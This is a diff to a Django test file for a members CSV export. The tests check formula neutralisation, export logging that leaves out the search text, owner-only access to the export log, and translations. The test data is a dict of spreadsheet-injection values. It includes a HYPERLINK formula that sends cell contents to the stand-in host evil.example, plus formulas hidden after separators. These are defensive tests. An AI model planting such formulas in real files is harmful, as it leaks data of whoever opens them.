@@ -3,19 +3,26 @@
 from __future__ import annotations
 
 import csv
+import datetime
 import io
+import re
+from pathlib import Path
 
+import pytest
+from django.conf import settings
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
+from django.utils import timezone
 from django_tenants.utils import schema_context
 
 from members import importing as services
 from members.consent import phone_hash
 from members.demo import members_seed
-from members.models import ConsentRecord, Member
+from members.models import ConsentRecord, ExportRecord, Member
 from tests import builders
 from tests.console.conftest import client_for
 from tests.phones import unique_phone
+from tests.signup.test_translations import TRANSLATED_LANGUAGES, po_entries
 
 
 def _rows(response) -> list[dict]:
@@ -41,14 +48,81 @@ def test_the_export_streams_every_member_of_the_current_filter(dana):
     assert connection.schema_name  # the generator left no half-open cursor behind
 
 
-def test_the_export_neutralises_spreadsheet_formulas(dana):
+HOSTILE = {
+    "first_name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "last_name": "a;=1",
+    "email": "x,+1",
+    "city": "@SUM(1+1)",
+    "place_name": "\t=1",
+    "region": "\r=1",
+}
+SEPARATORS = re.compile(r"[;,\t\r\n]")
+
+
+def _runnable_parts(cell: str) -> list[str]:
+    """The parts of a cell a spreadsheet would run, however it splits the cell: formulas, not phones."""
+    parts = [part.lstrip(" ") for part in SEPARATORS.split(cell)]
+    return [p for p in parts if p[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"\+[1-9]\d{7,14}", p)]
+
+
+def test_the_export_neutralises_every_part_of_every_cell_a_spreadsheet_could_run(dana):
     with schema_context(dana.schema_name):
-        builders.member(first_name='=HYPERLINK("http://x")', last_name="@SUM(1)", tags=["vip", "donor"])
-    rows = _rows(client_for(dana, "dmitri").get("/members/export.csv"))
-    assert rows[0]["first_name"].startswith("'=")
-    assert rows[0]["last_name"].startswith("'@")
-    assert rows[0]["phone"].startswith("+1")
-    assert rows[0]["tags"] == "vip;donor"
+        member = builders.member(**HOSTILE, tags=["vip", "@SUM(1)", "-2+3"])
+    [row] = _rows(client_for(dana, "dmitri").get("/members/export.csv"))
+    for name, cell in row.items():
+        assert _runnable_parts(cell) == [], (name, cell)
+    # Quoted, not rewritten: the text is all there after the quotes a spreadsheet hides.
+    assert row["first_name"] == "'" + HOSTILE["first_name"]
+    assert row["last_name"] == "a;'=1"
+    assert row["email"] == "x,'+1"
+    assert row["place_name"] == "\t'=1" and row["region"] == "\r'=1"
+    assert row["tags"] == "vip;'@SUM(1);'-2+3"
+    # Phones stay usable: an E.164 number cannot run anything.
+    assert row["phone"] == member.phone
+
+
+def test_an_export_is_recorded_without_the_search_text_and_shown_to_owners_only(world, olivia, mark, rita):
+    with schema_context(world.alice.schema_name):
+        builders.member(first_name="Zephyrine", language="fr")
+    response = mark.get("/members/export.csv", {"q": "Zephyr", "language": "fr", "gender": ""})
+    rows = _rows(response)
+    assert [row["first_name"] for row in rows] == ["Zephyrine"]
+    with schema_context(world.alice.schema_name):
+        record = ExportRecord.objects.get()
+    assert (record.username, record.kind, record.row_count) == ("mark", "members_csv", 1)
+    assert record.filters == {"q": True, "language": "fr"}  # the search was used; its text is not kept
+    assert record.created_at > timezone.now() - datetime.timedelta(minutes=1)
+
+    page = olivia.get("/members/exports/")
+    assert page.status_code == 200
+    html = page.content.decode()
+    assert "<h1>Exports of members</h1>" in html
+    assert "mark" in html and "a search (its text is not kept)" in html and "Language: Français" in html
+    assert "Zephyr" not in html
+    assert 'href="/members/exports/"' in olivia.get("/members/").content.decode()
+
+    assert mark.get("/members/exports/").status_code == 403
+    assert rita.get("/members/exports/").status_code == 403
+    assert 'href="/members/exports/"' not in mark.get("/members/").content.decode()
+
+
+def test_an_export_cut_short_is_shown_as_not_finished(world, olivia, mark):
+    response = mark.get("/members/export.csv")
+    next(iter(response.streaming_content))  # the header only: the download stops here
+    with schema_context(world.alice.schema_name):
+        record = ExportRecord.objects.get()
+    assert record.row_count is None
+    page = olivia.get("/members/exports/", HTTP_ACCEPT_LANGUAGE="fr").content.decode()
+    assert "inachevé" in page and "Tous les membres" in page
+
+
+@pytest.mark.parametrize("language", TRANSLATED_LANGUAGES)
+def test_the_exports_page_has_every_string_translated(language):
+    source = (Path(settings.BASE_DIR) / "templates/console/members_exports.html").read_text(encoding="utf-8")
+    strings = set(re.findall(r'{% translate "([^"]+)"', source)) | {"a search (its text is not kept)"}
+    entries = po_entries(language)
+    assert len(strings) >= 10
+    assert sorted(text for text in strings if not entries.get((None, text))) == []
 
 
 def _upload(text: str, name: str = "supporters.csv") -> SimpleUploadedFile:
